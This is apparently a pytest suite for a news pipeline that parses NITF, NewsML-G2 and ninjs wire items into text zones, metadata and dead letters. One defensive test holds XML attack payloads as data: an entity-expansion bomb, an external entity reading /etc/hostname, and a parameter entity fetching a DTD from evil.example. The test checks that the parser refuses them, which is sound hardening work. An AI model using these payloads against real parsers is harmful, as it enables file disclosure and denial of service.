"""Wire formats: ninjs, NITF, NewsML-G2."""

from __future__ import annotations

import pytest

from pipeline.articles import Article
from pipeline.articles.wire.xml_tree import MAX_DEPTH, parse_xml
from pipeline.errors import ReadError
from pipeline.record import DeadLetter


def zoned(article: Article) -> list[tuple[str, str]]:
    return [(zone.zone, article.text[zone.start : zone.end].strip()) for zone in article.zones]


@pytest.fixture
def nitf(read_sample):
    (article,) = read_sample("harbour.nitf.xml")
    return article


def test_nitf_text_follows_the_page_with_zones_from_the_markup(nitf):
    assert [zone for zone, _ in zoned(nitf)] == ["title", "deck", "body", "caption", "body", "furniture"]
    assert zoned(nitf)[0][1] == "Harbour doubles tolls for large ferries"
    assert zoned(nitf)[3][1] == "A ferry leaves the port of Sohar."


def test_nitf_paragraphs_are_single_lines_whatever_their_markup(nitf):
    assert "from May, its director, Salim Café, said on Friday." in nitf.text
    assert '"We have waited eleven years to do this," Café told reporters.' in nitf.text


def test_nitf_metadata_reach_the_article(nitf):
    assert (nitf.source, nitf.publisher, nitf.authors) == (
        "gulfwire-2021-0417",
        "Gulf Wire",
        ("Noor Al Hadi",),
    )
    assert (nitf.date_published, nitf.date_published_source) == ("2021-04-17T08:15:00+00:00", "meta")
    assert nitf.media_type == "application/nitf+xml"


def test_nitf_keeps_slug_version_embargo_and_dateline(nitf):
    kept = dict(nitf.extra)
    assert kept["slug"] == "HARBOUR-TOLLS"
    assert kept["version"] == "3"
    assert kept["embargo"] == "20210417T100000Z"
    assert kept["dateline"] == "SOHAR, Oman"
    assert "W_EMBARGO" in nitf.warnings


def test_newsml_item_with_xhtml_content(read_sample):
    (article,) = read_sample("storm.newsml.xml")
    assert zoned(article) == [
        ("title", "Storm cuts power on the west coast"),
        (
            "body",
            "About 12,000 homes lost power on Saturday night when a storm reached the coast north of Bergen.",
        ),
        ("caption", "Waves at the quay."),
        ("body", "“It sounded like a train,” said Ingrid Solheim, 61, who has lived there all her life."),
    ]
    assert article.authors == ("Aksel Lund", "Mari Vik")
    assert article.date_published == "2023-09-10T06:42:00+02:00"
    assert dict(article.extra)["slug"] == "STORM/COAST"
    assert dict(article.extra)["version"] == "7"


def test_newsml_message_gives_each_item_or_its_dead_letter(read_sample):
    found = read_sample("briefs.newsml.xml")
    assert [item.source if isinstance(item, Article) else item.code for item in found] == [
        "urn:brief:1",
        "E_NOT_USABLE",
        "E_NO_ARTICLE",
        "urn:brief:4",
    ]


def test_newsml_plain_text_keeps_its_paragraphs(read_sample):
    first = read_sample("briefs.newsml.xml")[0]
    assert first.text.split("\n\n") == [
        "Bakery reopens",
        "The bakery in Mill Lane opened again on Friday.",
        '"The oven is warm," said its owner, Pia Dahl.',
    ]


def test_ninjs_1_with_xhtml_body(read_sample):
    (article,) = read_sample("mill.ninjs.json")
    assert article.source == "http://eastwire.example/item/4711"
    assert article.text.endswith("“Nobody was inside,” said its spokesman, Adam Nowak & nobody else.")
    assert ("caption", "Smoke over the mill.") in zoned(article)
    assert (article.authors, article.publisher) == (("Ewa Zielinska",), "East Wire")
    assert dict(article.extra) == {
        "slug": "MILL-FIRE",
        "version": "2",
        "embargo": "2022-02-03T12:00:00Z",
        "dateline": "Lodz",
    }


def test_ninjs_3_takes_the_main_body(read_sample):
    (article,) = read_sample("mill.ninjs3.json")
    assert article.text.split("\n\n") == [
        "Mill owner promises flats",
        "The owner of the mill said he would build 120 flats.",
        "Work begins in June.",
    ]
    assert article.authors == ("Ewa Zielinska", "Jan Kot")
    assert article.media_type == "application/ninjs+json"


def test_ninjs_item_that_was_withdrawn_is_not_read(read_bytes):
    (letter,) = read_bytes(b'{"uri": "x", "pubstatus": "canceled", "body_text": "Old."}', "item.json")
    assert letter.code == "E_NOT_USABLE"


def test_ninjs_of_the_wrong_shape_names_the_key(read_bytes):
    (letter,) = read_bytes(b'{"uri": "x", "bodies": "text"}', "item.json")
    assert letter.code == "E_JSON_SHAPE"
    assert "'bodies'" in letter.message


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE nitf [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
    ],
    ids=["expansion", "file", "parameter"],
)
def test_xml_that_declares_entities_is_refused(read_bytes, declaration):
    (letter,) = read_bytes(f"{declaration}<nitf><body/></nitf>".encode(), "item.xml")
    assert letter.code == "E_XML"
    assert "entity" in letter.message


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"<nitf><body></nitf>", "E_XML"),
        (b"<rss><channel/></rss>", "E_UNKNOWN_FORMAT"),
        (b"<newsMessage/>", "E_NO_ARTICLE"),
        (b"<nitf><body/></nitf>", "E_NO_ARTICLE"),
        (b'<?xml version="1.0" encoding="klingon"?><nitf/>', "E_XML"),
        (b"<nitf>\x00\x01</nitf>", "E_XML"),
        (b"", "E_EMPTY"),
    ],
)
def test_bad_xml_is_a_dead_letter(read_bytes, data, code):
    (letter,) = read_bytes(data, "item.xml")
    assert isinstance(letter, DeadLetter)
    assert letter.code == code


def test_deep_nesting_is_refused_before_it_can_exhaust_the_stack():
    with pytest.raises(ReadError, match=str(MAX_DEPTH)):
        parse_xml(b"<a>" * 100_000)


def test_named_characters_of_html_need_no_declaration():
    assert parse_xml(b"<p>caf&eacute;&nbsp;&unheard;</p>").text == "café\xa0\ufffd"
